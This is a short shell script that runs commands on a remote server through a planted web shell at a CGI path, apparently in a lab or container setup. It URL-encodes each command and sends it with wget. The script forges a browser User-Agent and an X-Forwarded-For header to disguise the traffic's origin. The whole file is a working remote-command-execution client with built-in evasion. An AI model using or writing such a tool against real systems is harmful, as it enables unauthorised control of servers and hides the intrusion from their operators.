#!/bin/sh
# shell.sh COMMAND: run a command through the web shell (its output on stdout); the
# command is URL-encoded as it goes. Exit 1 when the web server refuses.
ua='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
encoded=$(printf '%s' "$1" | sed 's/%/%25/g; s/ /%20/g; s/|/%7C/g; s/;/%3B/g; s/&/%26/g; s/>/%3E/g; s/</%3C/g; s/+/%2B/g; s/#/%23/g; s/?/%3F/g; s/=/%3D/g; s/:/%3A/g')
timeout 10 wget -q -O - -U "$ua" --header 'X-Forwarded-For: 203.0.113.77' \
  "http://web:8080/cgi-bin/stats.cgi?c=$encoded"
